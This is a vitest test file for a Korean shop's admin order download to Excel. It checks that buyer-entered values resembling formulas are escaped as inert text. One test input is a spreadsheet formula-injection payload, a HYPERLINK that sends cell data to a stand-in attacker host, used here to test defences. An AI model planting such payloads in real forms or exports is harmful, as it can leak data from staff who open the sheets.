import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readExportedSheet } from '../../../test/excel-sheet';
import { createMember } from '../../../test/factories';
import { logInAs } from '../../../test/log-in-as';
import { createProduct, createWarehouse } from '../../../test/mall-factories';
import { cartIds, editCart, orderBody, placeOrder } from '../../../test/mall-flow';
import { decideInSimulator } from '../../../test/payment-flow';
import { createTestApp, type TestApp } from '../../../test/test-app';

let app: TestApp;

beforeAll(async () => {
  app = await createTestApp();
});
afterAll(() => app.dispose());

describe('the mall order download', () => {
  it('keeps what buyers typed as inert text, even when it reads as a formula, and numbers as numbers', async () => {
    const { cookie: buyer } = await logInAs(app, await createMember(app.db));
    const { cookie: admin } = await logInAs(app, await createMember(app.db, { level: 10 }));
    const warehouseId = await createWarehouse(app.db, { fee: 3000, freeOver: 50_000 });
    const product = await createProduct(app.db, { warehouseId, price: 7000, stock: 10, title: '@암송 카드' });
    await editCart(app, buyer, { itemId: product.itemId, productStock: 1 });
    const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"확인")';
    const placed = await placeOrder(
      app,
      buyer,
      orderBody(await cartIds(app, buyer), {
        buyerName: hyperlink,
        shippingName: '+1',
        address: '-2',
        detailedAddress: '\u2212 ok',
        shippingMemo: '@SUM(1)',
      }),
    );
    expect(placed.statusCode, placed.body).toBe(200);
    const { oid, form } = placed.json().data;
    await decideInSimulator(app, { device: 'pc', fields: form.fields, decision: 'approve' });

    const response = await app.inject({
      method: 'GET',
      url: `/api/admin/mall/orders/excel?searchType=oid&searchText=${oid}`,
      headers: { cookie: admin },
    });
    expect(response.statusCode).toBe(200);
    const { cell } = await readExportedSheet(response.rawPayload);
    expect(cell('주문자')).toBe(`'${hyperlink}`);
    expect(cell('받는 분')).toBe("'+1");
    expect(cell('주소')).toBe("'-2");
    expect(cell('배송 메모')).toBe("'@SUM(1)");
    expect(cell('상품')).toBe("'@암송 카드");
    // Ordinary values are left alone: text, phone numbers, and amounts as numbers.
    expect(cell('상세주소')).toBe('\u2212 ok');
    expect(cell('주문자 연락처')).toBe('010-2222-3333');
    expect(cell('금액')).toBe(7000);
    expect(cell('수량')).toBe(1);
    // How it was paid, in Korean.
    expect(cell('결제수단')).toBe('신용카드');
  });

  it('writes 실시간 계좌이체 for an order paid by transfer', async () => {
    const { cookie: buyer } = await logInAs(app, await createMember(app.db));
    const { cookie: admin } = await logInAs(app, await createMember(app.db, { level: 10 }));
    const warehouseId = await createWarehouse(app.db, { fee: 3000, freeOver: 50_000 });
    const product = await createProduct(app.db, {
      warehouseId,
      price: 9000,
      stock: 10,
      title: '계좌이체 교재',
    });
    await editCart(app, buyer, { itemId: product.itemId, productStock: 1 });
    const placed = await placeOrder(
      app,
      buyer,
      orderBody(await cartIds(app, buyer), { gopaymethod: 'DirectBank' }),
    );
    expect(placed.statusCode, placed.body).toBe(200);
    const { oid, form } = placed.json().data;
    await decideInSimulator(app, { device: 'pc', fields: form.fields, decision: 'approve' });
    const response = await app.inject({
      method: 'GET',
      url: `/api/admin/mall/orders/excel?searchType=oid&searchText=${oid}`,
      headers: { cookie: admin },
    });
    const { cell } = await readExportedSheet(response.rawPayload);
    expect(cell('주문번호')).toBe(oid);
    expect(cell('결제수단')).toBe('실시간 계좌이체');
  });
});
